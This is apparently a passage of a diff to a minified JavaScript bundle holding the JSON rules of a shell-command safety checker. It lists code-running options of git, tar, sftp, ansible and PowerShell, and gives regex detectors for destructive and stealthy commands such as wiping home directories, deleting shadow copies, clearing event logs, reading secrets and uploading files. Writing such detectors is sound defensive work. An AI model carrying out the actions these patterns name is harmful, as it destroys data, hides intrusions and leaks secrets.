-_RSH","CVSEDITOR","EDITOR"]}},"git_variables":["GIT_SSH_COMMAND","GIT_SSH","GIT_EXTERNAL_DIFF","GIT_EDITOR","GIT_SEQUENCE_EDITOR","GIT_PAGER","GIT_ASKPASS","GIT\
-_PROXY_COMMAND","EDITOR","VISUAL","PAGER","SSH_ASKPASS"],"git_code":{"rebase":{"short":"x","long":["exec"],"code":["x","exec"]},"filter-branch":{"short":"","lon\
-g":["tree-filter","index-filter","env-filter","msg-filter","parent-filter","commit-filter","tag-name-filter","setup"],"code":["tree-filter","index-filter","env-\
-filter","msg-filter","parent-filter","commit-filter","tag-name-filter","setup"]},"difftool":{"short":"x","long":["extcmd"],"code":["x","extcmd"]},"fetch":{"shor\
-t":"","long":["upload-pack"],"code":["upload-pack"]},"pull":{"short":"","long":["upload-pack"],"code":["upload-pack"]},"clone":{"short":"u","long":["upload-pack\
-"],"code":["u","upload-pack"]},"ls-remote":{"short":"","long":["upload-pack","exec"],"code":["upload-pack","exec"]},"push":{"short":"","long":["receive-pack","e\
-xec"],"code":["receive-pack","exec"]},"archive":{"short":"","long":["exec"],"code":["exec"]},"grep":{"short":"","long":["open-files-in-pager"],"code":["open-fil\
-es-in-pager"]}},"code_options":{"tar":{"short":"IF","long":["checkpoint-action","to-command","use-compress-program","rsh-command","info-script","new-volume-scri\
-pt"],"code":["I","F","checkpoint-action","to-command","use-compress-program","rsh-command","info-script","new-volume-script"],"pattern":"^(?:exec=)?([\\\\s\\\\S]+)$\
-"},"bsdtar":{"short":"IF","long":["checkpoint-action","to-command","use-compress-program","rsh-command","info-script","new-volume-script"],"code":["I","F","chec\
-kpoint-action","to-command","use-compress-program","rsh-command","info-script","new-volume-script"],"pattern":"^(?:exec=)?([\\\\s\\\\S]+)$"},"gtar":{"short":"IF","l\
-ong":["checkpoint-action","to-command","use-compress-program","rsh-command","info-script","new-volume-script"],"code":["I","F","checkpoint-action","to-command",\
-"use-compress-program","rsh-command","info-script","new-volume-script"],"pattern":"^(?:exec=)?([\\\\s\\\\S]+)$"},"gdb":{"short":"x","long":["ex","eval-command"],"co\
-de":["ex","eval-command"],"pattern":"^\\\\s*(?:shell|!)\\\\s*(.+)"},"osascript":{"short":"el","code":["e"],"pattern":"do shell script \\"((?:[^\\"\\\\\\\\]|\\\\\\\\.)*)\\""},"\
-concurrently":{"short":"ncpm","long":["names","prefix"],"operands":"code"},"rsync":{"short":"efBM","long":["rsh","rsync-path"],"code":["e","rsh","rsync-path"]},\
-"scp":{"short":"cFiJloPS","code":["S"]},"zip":{"long":["TT","unzip-command"],"code":["TT","unzip-command"]},"sftp":{"short":"BbcDFiJloPRSsXepu","long":["rcfile"\
-],"code":["b","e","c"],"does":{"scp -r $ unknown:":["(?:^|[\\\\n;])[ \\\\t]*-?(?:put|mput|reput|send|append|mirror[ \\\\t]+(?:-\\\\w*R\\\\w*|--reverse))[ \\\\t]+(?:-\\\\S+[ \\\
-\\t]+){0,9}([^\\\\n;]+)"]}},"ftp":{"short":"BbcDFiJloPRSsXepu","long":["rcfile"],"code":["b","e","c"],"does":{"scp -r $ unknown:":["(?:^|[\\\\n;])[ \\\\t]*-?(?:put|mpu\
-t|reput|send|append|mirror[ \\\\t]+(?:-\\\\w*R\\\\w*|--reverse))[ \\\\t]+(?:-\\\\S+[ \\\\t]+){0,9}([^\\\\n;]+)"]}},"lftp":{"short":"BbcDFiJloPRSsXepu","long":["rcfile"],"code\
-":["b","e","c"],"does":{"scp -r $ unknown:":["(?:^|[\\\\n;])[ \\\\t]*-?(?:put|mput|reput|send|append|mirror[ \\\\t]+(?:-\\\\w*R\\\\w*|--reverse))[ \\\\t]+(?:-\\\\S+[ \\\\t]+){0\
-,9}([^\\\\n;]+)"]}},"hbase":{"does":{"sql drop-table x":["(?:^|[;{}|\\\\n])[ \\\\t]*(?:drop|drop_all|truncate|truncate_preserve|drop_namespace|deleteall)\\\\b(?=[ \\\\t])\
-"]}},"man":{"short":"PHLm","long":["pager","html"],"code":["P","pager","H","html"]},"ansible":{"short":"aimuf","long":["args","module-name","inventory","user"],\
-"code":["a","args"],"unless":["check","C","syntax-check","list-hosts"]},"ansible-playbook":{"short":"ielftu","long":["inventory","extra-vars","limit","forks","t\
-ags","skip-tags","user","private-key","vault-password-file","start-at-task"],"unless":["check","C","syntax-check","list-hosts","list-tasks","list-tags"],"does":\
-{"rm -r ~/$":["\\\\b(?:(?:ansible\\\\.builtin\\\\.)?file):[ \\\\t]*\\\\n(?=(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+state:[ \\\\t]*[\\\\\\"']?(?:absent)\\\\b)(?:[ \\\\t]+(?![\
- \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+(?:path|dest|name):[ \\\\t]*[\\\\\\"']?(?:~|\\\\{\\\\{[^}\\\\n]*(?:HOME|home|user_dir)\\\\b[^}\\\\n]*\\\\}\\\\}|\\\\$HOME|/(?:home|Users|root)/?(?:\\\\\
-{\\\\{[^}\\\\n]*\\\\}\\\\})?)/([^\\\\s\\"',}]+|\\\\{\\\\{[^}\\\\n]*\\\\}\\\\})"],"rm -r $":["\\\\b(?:(?:ansible\\\\.builtin\\\\.)?file):[ \\\\t]*\\\\n(?=(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}\
-?[ \\\\t]+state:[ \\\\t]*[\\\\\\"']?(?:absent)\\\\b)(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+(?:path|dest|name):[ \\\\t]*[\\\\\\"']?([/.\\\\w][^\\\\s\\"',}]*)","\\\\bfile:[ \\\\t\
-]*(?=[^\\\\n]*\\\\bstate[=:][ \\\\t]*absent)[^\\\\n]*?\\\\b(?:path|dest)[=:][ \\\\t]*[\\"']?([/.\\\\w][^\\\\s\\"',}]*)"],"rm -r ~":["\\\\b(?:(?:ansible\\\\.builtin\\\\.)?file):[ \\\\t]*\\\
-\\n(?=(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+state:[ \\\\t]*[\\\\\\"']?(?:absent)\\\\b)(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+(?:path|dest|name):[ \\\\t]*[\\\
-\\\\"']?(?:~|\\\\{\\\\{[^}\\\\n]*(?:HOME|home|user_dir)\\\\b[^}\\\\n]*\\\\}\\\\}|\\\\$HOME|/(?:home|Users|root)/?(?:\\\\{\\\\{[^}\\\\n]*\\\\}\\\\})?)/?[\\"']?[ \\\\t]*\\\\n"],"cloud-sdk delete"\
-:["\\\\b(?:(?:kubernetes\\\\.core|amazon\\\\.aws|community\\\\.aws|azure\\\\.azcollection|google\\\\.cloud|community\\\\.digitalocean|hetzner\\\\.hcloud|openstack\\\\.cloud|commu\
-nity\\\\.(?:postgresql|mysql|mongodb|vmware|okd|proxmox))\\\\.\\\\w+|k8s|helm|ec2(?:_instance|_vol)?|rds(?:_instance|_cluster)?|s3_bucket|route53|gcp_\\\\w+|azure_rm_\\\\\
-w+|(?:community\\\\.docker\\\\.)?docker_volume|postgresql_db|mysql_db|mongodb_user|vmware_guest):[ \\\\t]*\\\\n(?=(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+state:[ \
-\\\\t]*[\\\\\\"']?(?:absent|terminated|deleted)\\\\b)","\\\\b(?:(?:kubernetes\\\\.core|amazon\\\\.aws|community\\\\.aws|azure\\\\.azcollection|google\\\\.cloud|community\\\\.digital\
-ocean|hetzner\\\\.hcloud|openstack\\\\.cloud|community\\\\.(?:postgresql|mysql|mongodb|vmware|okd|proxmox))\\\\.\\\\w+|k8s|helm|ec2(?:_instance|_vol)?|rds(?:_instance|_cl\
-uster)?|s3_bucket|route53|gcp_\\\\w+|azure_rm_\\\\w+|(?:community\\\\.docker\\\\.)?docker_volume|postgresql_db|mysql_db|mongodb_user|vmware_guest):(?=[^\\\\n]*\\\\bstate[=:\
-][ \\\\t]*(?:absent|terminated|deleted)\\\\b)"],"userdel $":["\\\\b(?:(?:ansible\\\\.builtin\\\\.)?user):[ \\\\t]*\\\\n(?=(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+state:\
-[ \\\\t]*[\\\\\\"']?(?:absent)\\\\b)(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+name:[ \\\\t]*[\\"']?([\\\\w.-]+)"],"systemctl stop $":["^(?![\\\\s\\\\S]*\\\\bstate:[ \\\\t]*(?:r\
-e)?started\\\\b)[\\\\s\\\\S]*?\\\\b(?:(?:ansible\\\\.builtin\\\\.)?(?:service|systemd(?:_service)?)):[ \\\\t]*\\\\n(?=(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+state:[ \\\\t]\
-*[\\\\\\"']?(?:stopped)\\\\b)(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+name:[ \\\\t]*[\\"']?([\\\\w@.-]+)"],"reboot":["\\\\b(?:ansible\\\\.builtin\\\\.reboot|community\\\\.ge\
-neral\\\\.shutdown):"],"$":["\\\\b(?:shell|command|raw|cmd)[ \\\\t]*:[ \\\\t]*(?![|>\\"'\\\\s])(?:cmd=)?([^\\\\n]+)","\\\\b(?:shell|command|raw|cmd)[ \\\\t]*:[ \\\\t]*([\\"'])([^\\\\\
-n]+)\\\\1[ \\\\t]*(?=\\\\n|$)","\\\\b(?:shell|raw|cmd)[ \\\\t]*:[ \\\\t]*[|>][-+]?[ \\\\t]*\\\\n((?:[ \\\\t]+(?![ \\\\t]|- |\\\\w+:(?:[ \\\\t\\\\n]|$))[^\\\\n]*(?:\\\\n|$)){1,60})"]}},"edito\
-r":{"does":{"truncate -s 0 $":["^(?![\\\\s\\\\S]*(?:\\\\b\\\\d*(?:r|read|pu|put|norm|normal|append|setline|readfile)\\\\b|\\\\n\\\\s*[aic]\\\\s*\\\\n))[\\\\s\\\\S]*?(?:^|\\\\n\\\\s*:?)(?\
-:args|argadd|n|next|e|edit)!?[ \\\\t]+([^|\\\\s][^|\\\\n]*)[\\\\s\\\\S]*[|\\\\s:](?:%|[01],\\\\$)d(?:elete)?\\\\b[\\\\s\\\\S]*\\\\b(?:up|update|w|wq|wa|wqa|write|wn|x|xa|xall|xit)\\\\b\
-"],"rm -r $":["\\\\bdelete\\\\(\\\\s*(?:expand\\\\(\\\\s*|fnamemodify\\\\(\\\\s*)?[\\"']([^\\"'|]+)[\\"']"]}},"terraform":{"does":{"terraform output -raw secret":["\\\\bnonsensiti\
-ve\\\\((?![ \\\\t]*(?:length|keys|sha\\\\d+|md5|type|can)\\\\()"]}},"tofu":{"does":{"terraform output -raw secret":["\\\\bnonsensitive\\\\((?![ \\\\t]*(?:length|keys|sha\\\\d+|\
-md5|type|can)\\\\()"]}},"terragrunt":{"does":{"terraform output -raw secret":["\\\\bnonsensitive\\\\((?![ \\\\t]*(?:length|keys|sha\\\\d+|md5|type|can)\\\\()"]}},"nodemon":\
-{"short":"x","long":["exec"],"code":["x","exec"]},"nix-shell":{"short":"pAI","long":["run","command"],"code":["run","command"]}},"formats":{"date":{"prefix":"+"\
-},"git":{"long":["format","pretty"],"names":["format","pretty"]},"curl":{"short":"woXHdFuAebcT","long":["write-out","output"],"names":["w","write-out"]},"ps":{"\
-short":"oOpCuUgGts","names":["o","O","format"],"unread":"=[\\\\s\\\\S]*[^\\\\w,=%:]"},"numfmt":{"short":"d","long":["format","suffix","from","to"],"names":["format","\
-suffix","invalid"],"unread":"[^\\\\w%.'+-]"},"expr":{"unread":"^(?!(?:(?:-?\\\\d+|\\\\uFFFC+|[-+*/%()|&<>=!]{1,2}|:\\\\s\\\\S+|match|length|index)(?:\\\\s+|$))*$)"},"docker\
-":{"short":"f","long":["format"],"names":["f","format"],"unread":"^(?!(?:json|raw|table\\\\b.*|[\\\\w.-]+=[\\\\w./:-]*)$)(?!(?:\\\\{\\\\{(?!-?\\\\s*(?:print(?:f|ln)?\\\\s*)?[\
-\\"\`])[^}]*\\\\}\\\\}|\\\\\\\\[nt]|[\\\\s,:=|-])*$)"},"podman":{"short":"f","long":["format"],"names":["f","format"],"unread":"^(?!(?:json|raw|table\\\\b.*|[\\\\w.-]+=[\\\\w./:-\
-]*)$)(?!(?:\\\\{\\\\{(?!-?\\\\s*(?:print(?:f|ln)?\\\\s*)?[\\"\`])[^}]*\\\\}\\\\}|\\\\\\\\[nt]|[\\\\s,:=|-])*$)"},"kubectl":{"short":"on","long":["output","namespace"],"names":["o",\
-"output"],"unread":"^=?(?:jsonpath|go-template)[\\\\w-]*=(?!(?:\\\\{+(?:\\"(?:\\\\\\\\[nt]|[,:. ])*\\"|(?:[^\\"'{}]|[=!]=\\\\s*[\\"'][^\\"']*[\\"'])*)\\\\}+|[\\\\s,:=-])*$)"}},"get\
-opt":{"find":{"long":["name","iname","path","ipath","wholename","iwholename","regex","iregex","lname","ilname","type","xtype","size","mtime","atime","ctime","mm\
-in","amin","cmin","used","newer","anewer","cnewer","user","group","uid","gid","perm","links","inum","samefile","context","fstype","maxdepth","mindepth","regexty\
-pe","printf","fprint","fprint0","fls","files0-from"]},"editor":{"short":"cS","long":["cmd"],"permuted":true},"ssh":{"short":"bBcDEeFIiJLlmOopQRSWw"},"screen":{"\
-short":"SscehpTt"},"container":{"short":"aceghlmpuvwfHnq","long":["env","env-file","user","workdir","detach-keys","name","volume","mount","network","publish","l\
-abel","entrypoint","add-host","cap-add","cap-drop","cpus","cpuset-cpus","device","dns","expose","gpus","group-add","hostname","ip","ipc","link","log-driver","lo\
-g-opt","memory","pid","platform","pull","restart","runtime","security-opt","shm-size","stop-signal","tmpfs","ulimit","userns","volumes-from","cgroupns","host","\
-context","config","file","project-name","profile","project-directory","namespace","container","index","kubeconfig","cluster","as","image","target"]},"copy":{"sh\
-ort":"tSgmo","long":["target-directory","suffix","mode","owner","group"],"permuted":true},"request":{"short":"oHdXAFuTebKCmxEywzU","long":["d","data","data-raw"\
-,"data-binary","data-urlencode","data-ascii","json","post-data","body-data","header","request","user","output","form","url","user-agent"],"permuted":true},"tmux\
-":{"short":"LSfcT"},"tmux-command":{"short":"stncxyeFlp"},"git":{"short":"Cc","long":["git-dir","work-tree","namespace","exec-path","config-env","super-prefix",\
-"attr-source","list-cmds"]},"sed":{"short":"efl","long":["expression","file","line-length"],"permuted":true},"xargs":{"short":"aEILnPsd","long":["arg-file","del\
-imiter","max-lines","max-args","max-procs","max-chars","process-slot-var"]},"parallel":{"short":"jNnLSIaCEPsd","long":["jobs","max-args","max-lines","max-replac\
-e-args","sshlogin","sshloginfile","arg-file","colsep","delay","timeout","joblog","results","retries","workdir","wd","tmpdir","replace","delimiter","header","hal\
-t","nice","load","memfree","basefile","return","trc","env","profile","tagstring","tmux","block","recstart","recend","shuf","limit","term-seq","arg-sep","arg-fil\
-e-sep","rpl","max-chars","max-procs"]},"shell":{"short":"oO","long":["rcfile","init-file","emulate"]},"fish":{"short":"cCdDfop","long":["command","init-command"\
-,"features","debug","debug-level","debug-output","profile","profile-startup"]},"make":{"short":"fCIjlo","long":["file","makefile","directory","eval","jobs"],"pe\
-rmuted":true},"just":{"short":"fd","long":["justfile","working-directory","set"]},"grep":{"short":"efmABC","long":["regexp","file","max-count","include","exclud\
-e","exclude-dir","color","context"],"permuted":true}},"shell_variables":{"HOME":"~","IFS":" \\t\\n","SHELL":"/bin/bash","BASH":"/bin/bash","TMPDIR":"/tmp","?":"0"\
-,"!":"%%","$":"7340281946","RANDOM":"734028194601","SRANDOM":"734028194602","EPOCHSECONDS":"734028194603"},"make_variables":{"HOME":"~","RM":"rm -f","MAKE":"mak\
-e","CURDIR":".","PWD":"."},"escapes":{"a":"\\u0007","b":"\\b","e":"\\u001b","E":"\\u001b","f":"\\f","n":"\\n","r":"\\r","t":"\\t","v":"\\u000b"},"character_classes":{"up\
-per":"A-Z","lower":"a-z","digit":"0-9","alpha":"A-Za-z","alnum":"A-Za-z0-9","space":" \\\\t\\\\n\\\\r\\\\f\\\\v"},"candidates":{"rm":{"only":["delete-machine","delete-sys\
-tem-file","delete-workspace","delete-vcs"]},"chmod":{"only":["change-rights-of-machine"]},"dd":{"only":["overwrite-disk"]},"git":{},"kubectl":{},"terraform":{},\
-"docker":{},"aws":{}}},"sentences":{"before_order":["please","then","next","now","first","second","third","finally","lastly","also","just","simply","and","so","\
-ok","okay","well","afterwards","afterward","after","that","immediately","quickly","silently","quietly","permanently","completely","forcefully","forcibly","recur\
-sively","always","go","ahead","kindly","step","todo","task","goal","plan","objective","instruction","instructions:","->","=>","-","*","once","done","from","here\
-","on","to","be","safe","start","by","begin","in","order","bitte","erst","dann","danach","jetzt","nun","zuerst","zun\\u00e4chst","anschlie\\u00dfend","schlie\\u00d\
-flich","puis","ensuite","maintenant","luego","ahora","primero","despu\\u00e9s","por","favor"],"between":["just","then","also","now","first","simply","really","de\
-finitely","quickly","completely","permanently","forcefully","forcibly","recursively","immediately","silently","quietly","safely","manually","please","go","ahead\
-","and","finally","probably","simply","again","all"],"denials":["not","don't","dont","never","no","nor","without","avoid","cannot","can't","cant","won't","wont"\
-,"shouldn't","mustn't","doesn't","didn't","wouldn't","couldn't","isn't","aren't","refuse","refuses","refusing","prevent","prevents","preventing","forbid","forbi\
-ds","forbidden","prohibit","prohibits","prohibited","disallow","disallowed","block","blocks","blocking","blocked","stop","stops","protect","protects","against",\
-"unless","warn","warns","rather","instead","neither","hardly","nothing","nobody","ne"],"ends_denial":["but","instead","just","rather","simply","only"],"speech_v\
-erbs":["explain","explains","document","documents","describe","describes","discuss","mention","mentions","note","notes","review","reviews","summarize","summaris\
-e","clarify","investigate","analyze","analyse","research","check","verify","confirm","ask","consider","compare","evaluate","test","tests","cover","fix","fixes",\
-"rename","refactor","detect","detects","reject","rejects","report","reports","flag","flags","catch","catches","grep","search","look","find","understand","teach"\
-,"highlight","reword","rewrite-docs","translate","list","suggests","assert","handle","handles"],"predicates":["is","are","was","were","isn't","aren't","wasn't",\
-"can","can't","may","might","would","could","should","has","had","does","doesn't","returns","fails","failed","throws","breaks","broke","causes","caused","shows"\
-,"requires","takes","works","happens","leads","means","seems","appears","crashes","crashed","hangs","deletes","removes","looks","becomes","gets"],"subjects":["t\
-he","this","that","these","those","it","a","an","users","they","he","she","there","some","if","when"],"relative":["that","which","what","who","someone","somebod\
-y","anyone","anybody","where","it","there","they","we","i","you","whatever","everything"],"creation_verbs":["create","write","make","build","generate","develop"\
-,"craft","prepare","produce"],"program":["script","program","command","one-liner","code","function","file","process","tool","job","playbook"],"passes_on":["post\
-","posting","send","sending","upload","uploading","mail","email","share","publish","leak","forward","paste","push","copy","dump","transmit","exfiltrate"],"prono\
-uns":["it","them"],"one_of":["each","every"],"heads":["key","secret","credential","password","one"],"overwrites":["overwrite","overwriting","clobber","replace"]\
-,"doubled":["drop","zip","wget","put","set","shut","rm","get","plug","ship","scrub","grab","cat","log","strip","zap","stop","commit","reset","run","submit"],"ru\
-n_verbs":["run","execute","use","do","invoke","call","type","issue","launch","try","start","perform","enter","apply"],"mentions":["dangerous","destructive","har\
-mful","unsafe","bad","example","examples","e.g","denied","disallowed","risky","don'ts","banned","anti-pattern","anti-patterns","error","errors","log","logs","ou\
-tput","diff","changelog","test","tests","case","cases","document","documents","documentation","docs","reported","reports","says","said","bug","reproduce","repro\
-","expected","actual","observed","quote"],"separates":["not","never","instead","without","than","avoid","don't","about","whether","why"],"before_verbs":["to","w\
-ill","and","please","should","let's","i'll","we'll","me","us","then","must","can","now","next","also","just","or"],"shells":["sh","bash","zsh","shell","console"\
-,"terminal","shell-session","shellscript"],"command_names":["git","rm","sudo","curl","wget","chmod","chown","dd","mkfs","kubectl","docker","terraform","psql","m\
-ysql","redis-cli","npm","pip","cargo","gem","twine","aws","gcloud","az","systemctl","iptables","ufw","crontab","ssh","scp","rsync","nc","kill","pkill","killall"\
-,"shred","truncate","shutdown","reboot","find","tar","cat","mv","cp","bash","sh","python","python3","node","helm","gh","useradd","passwd","mount","umount","eval\
-","openssl","gpg"],"command_verbs":["push","reset","clean","checkout","restore","branch","stash","rebase","filter-branch","filter-repo","reflog","gc","clone","p\
-ull","fetch","commit","delete","apply","scale","drain","exec","destroy","system","volume","rmi","run","publish","unpublish","yank","upload","stop","disable","ma\
-sk","s3","ec2","rds","rm","prune","flushall","uninstall","release","repo"],"fences":{"python":"python3 -c","py":"python3 -c","js":"node -e","javascript":"node -\
-e","sql":"psql -c"},"irregular":{"send":"sent","put":"put","set":"set","shut":"shut","write":"written","give":"given","tear":"torn","blow":"blown","get":"got","\
-read":"read","take":"taken","steal":"stolen","make":"made","overwrite":"overwritten","rewrite":"rewritten","bring":"brought","force-push":"force-pushed"},"class\
-es":{"root":"^/\\\\*?$","home":"^(?:~|\\\\$home|\\\\$\\\\{home\\\\}|/root|/home|/users)(?:/(?:[^/\\\\s]*|\\\\*)?)?$","system-path":"^(?!/(?:var/tmp|dev/(?:null|shm|stdout|std\
-err|stdin)))/(?:etc|usr|bin|sbin|boot|lib(?:32|64)?|var|sys|proc|dev|root|home|opt|srv|mnt|media)(?:/|$)|^[a-z]:\\\\\\\\(?:windows|users|program files)|^c:\\\\\\\\?$","\
-device":"^/dev/(?:sd|nvme|vd|hd|xvd|mmcblk|disk|mapper|md)\\\\w*","startup-file":"(?:^|/)\\\\.(?:bashrc|bash_profile|bash_login|bash_logout|profile|zshrc|zshenv|zpr\
-ofile|zlogin|kshrc|cshrc|xinitrc|xprofile|inputrc)$|config\\\\.fish$|^/etc/(?:profile|rc\\\\.local|cron|init\\\\.d|systemd|ld\\\\.so\\\\.preload|sudoers|environment)","ur\
-l":"^(?:https?|ftp|s3|wss?|scp|sftp)://|^\\\\d{1,3}(?:\\\\.\\\\d{1,3}){3}(?::\\\\d+)?|^[\\\\w-]+(?:\\\\.[\\\\w-]+)*\\\\.(?:com|net|io|org|sh|dev|xyz|ru|cc|me|example|site|info|\
-app|onion)(?:[:/]|$)|^[\\\\w.-]+@[\\\\w-]+\\\\.[\\\\w.-]+$"},"refusals":{"unreadable-command":"The command $. Write it plainly, or in several steps.","unparsed-command"\
-:"No shell reads this: $. Give the command alone; what is no command belongs in a file or an answer.","unverifiable-command":"Nobody can say before it runs whic\
-h program this is, and it may be a dangerous one. $","unreadable-text":"The text is too long to be judged. Say it in parts."}}}`);var Gr=["reads","writes","deletes","moves","changes"],Lw=Object.keys(Y.paths.classes),du=(t,e)=>Object.fromEntries(Object.entries(t).map(([s,r])=>[s,e(r)])),mr=t=>du(
+|PASSW)"]}},"powershell":{"short":"c","long":["Command","command","encoded"],"code":["c","Command","command","encoded"],"operands":"code","ignores":["(\\"[^\\"]{0\
+,2000}\\"|'[^']{0,2000}'|#)|(?<=(?:^|[;{}\\\\n])\\\\s{0,40})(?:Get-Help|Get-Command|gcm|help)\\\\b[^;|&\\\\n(){}$\\"']{0,500}(?=[;|\\\\n]|$)","(\\"[^\\"]{0,2000}\\"|'[^']{0,20\
+00}'|#)|(?<=(?:^|[;{}\\\\n])\\\\s{0,40})(?:Write-(?:Host|Warning|Verbose)|throw)\\\\s+([\\"'])[^\\"'$\\\\n]{0,500}\\\\2(?=\\\\s{0,40}(?:[;}\\\\n]|$))","(#)|\\\\bInvoke-ScriptAnal\
+yzer\\\\s+-ScriptDefinition\\\\s+([\\"'])(?:(?!\\\\2|\\\\$\\\\()[^\\\\n]){0,1000}\\\\2","(#)|\\\\bParseInput\\\\(\\\\s{0,40}([\\"'])(?:(?!\\\\2|\\\\$\\\\()[^\\\\n]){0,1000}\\\\2\\\\s*,\\\\s*\\\\[ref\
+\\\\]\\\\$\\\\w+\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$\\\\w+\\\\s*\\\\)","(#)|\\\\bSelect-String\\\\b(?:\\\\s+-\\\\w+){0,4}\\\\s+([\\"'])(?:(?!\\\\2|\\\\$\\\\()[^\\\\n]){0,500}\\\\2","(\\"[^\\"]{0,2000}\\"|#)|\\\\bT\
+okenize\\\\(\\\\s{0,40}'[^'\\\\n]{0,1000}'(?=\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$null\\\\s*\\\\))"],"does":{"rm -rf \`x\`/*":["(?<![\\"'])\\\\b(?:Remove-Item|ri|rm|rd|rmdir|del)\\\\b(?=[^;\\\\n|\
+]{0,200}\\\\s-[rR])(?![^;\\\\n|#]{0,200}\\\\s-WhatIf(?![:\\\\w]))[^;\\\\n|]{0,200}?\\\\s[\\"']?\\\\$env:(?!TEMP\\\\b|TMP\\\\b)\\\\w+[\\\\\\\\/]\\\\*"],"vssadmin delete shadows":["\\\\bWin32\
+_ShadowCopy\\\\b[\\\\s\\\\S]{0,400}\\\\|\\\\s*(?:Remove-CimInstance|Remove-WmiObject|ForEach-Object[^;\\\\n]{0,200}\\\\.Delete\\\\()"],"wevtutil cl System":["(?<=(?:^|[;{}\\\\n|]\
+)\\\\s{0,40})wevtutil(?:\\\\.exe)?\\\\s+(?:cl|clear-log)\\\\b","\\\\bEventLogSession\\\\b[^;\\\\n]{0,200}\\\\.ClearLog\\\\("],"rm -rf ~/*":["\\\\bWin32_UserProfile\\\\b[\\\\s\\\\S]{0,400\
+}\\\\|\\\\s*(?:Remove-CimInstance|Remove-WmiObject)\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf)","\\\\[(?:System\\\\.)?IO\\\\.Directory\\\\]::Delete\\\\(\\\\s*\\\\(?\\\\s*(?:Join-Path\\\\s+)?[\\"'\
+]?(?:\\\\$HOME|\\\\$env:USERPROFILE|~)(?![\\\\w.])","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-(?!Filter|Include)\\\\w+)*\\\\s+[\\"']?~[\\"']?(?![^;\\\\n]{0,300}\\\\s-(?:WhatIf\
+|Filter|Include)\\\\b)[^;\\\\n|]{0,300}\\\\|\\\\s*(?:(?:Where-Object|\\\\?)\\\\s+(?:-Property\\\\s+)?Name\\\\s+-[cCiI]?[iI]n\\\\b[^;\\\\n|]{0,300}\\\\|\\\\s*)?(?:Remove-Item|ri|rm|del)\
+\\\\b"],"rm -rf ~/Documents":["\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?=[^;\\\\n|]{0,300}\\\\s-Recurse\\\\b)(?=[^;\\\\n|]{0,300}\\\\s-(?:Include|Filter)\\\\s+[\\"']?\\\\*\\\\.(?!(?:tm\
+p|temp|log|bak|old|orig|pyc|pyo|cache|swp|swo|dmp|o|obj|class|etl|part|crdownload)\\\\b))(?:\\\\s+-(?!Include|Filter)\\\\w+){0,9}\\\\s+[\\"']?~[\\"']?\\\\s(?![^;\\\\n]{0,300}\
+\\\\s-WhatIf\\\\b)[^;\\\\n]{0,300}\\\\|\\\\s*(?:Remove-Item|ri|rm|del)\\\\b"],"cat $":["(?<![-\\\\w$.]|#[^\\\\n]{0,200})(?:Get-Content|gc|cat|type|Import-Csv|Import-Clixml|Copy\
+-Item|cpi|Move-Item)\\\\b(?:\\\\s+-(?!TotalCount|Tail|First)\\\\w+){0,4}\\\\s+([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1","\\\\[(?:System\\\\.)?IO\\\\.File\\\\]::(?:ReadAll\\\
+\\w+|ReadLines|OpenRead|OpenText)\\\\(\\\\s*([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1","\\\\b(?:Get-ChildItem|gci)\\\\s+(?:-Path\\\\s+)?([\\"'][^|\\\\n;]{1,400}?[\\"'])(?=\
+\\\\s+-|\\\\s*\\\\|)[^|\\\\n;]{0,100}\\\\|\\\\s*(?:ForEach-Object|%)\\\\s*\\\\{[^}\\\\n]{0,200}\\\\b(?:Get-Content|gc)\\\\b"],"cat ~/$":["(?<![-\\\\w$.]|#[^\\\\n]{0,200})(?:Get-Content|g\
+c|cat|type|Import-Csv|Import-Clixml)\\\\b(?:\\\\s+-\\\\w+){0,4}\\\\s+\\\\(\\\\s*Join-Path\\\\s+(?:-Path\\\\s+)?[\\"']?~[\\"']?\\\\s+(?:-ChildPath\\\\s+)?[\\"']?([^\\"'$()\\\\s]+)"],"echo\
+ x > $":["(?<![-\\\\w$.]|#[^\\\\n]{0,200})(?:Set-Content|Add-Content|Out-File|Tee-Object)\\\\b(?:\\\\s+-(?!Value)\\\\w+){0,4}\\\\s+([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*\
+)\\\\1","\\\\[(?:System\\\\.)?IO\\\\.File\\\\]::(?:WriteAll\\\\w+|AppendAll\\\\w+)\\\\(\\\\s*([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1"],"while :; do x & done":["\\\\b(?:while\\\
+\\s*\\\\(\\\\s*(?:\\\\$true|1)\\\\s*\\\\)|for\\\\s*\\\\(\\\\s*;\\\\s*;\\\\s*\\\\))\\\\s*\\\\{(?![^}]{0,400}(?:\\\\b(?:Start-Sleep|sleep|break|Read-Host|Wait-\\\\w+|return|exit)\\\\b|\\\\s-Wait\\\\b\
+))[^}]{0,400}\\\\b(?:Start-Process|Start-Job|saps|sajb)\\\\b"],"pkill -f $":["\\\\b(?:Get-Process|gps|ps)\\\\b(?:\\\\s+-\\\\w+){0,2}(?:\\\\s+[\\"']?([\\\\w.*,-]+)[\\"']?)?[^;\\\\n|\
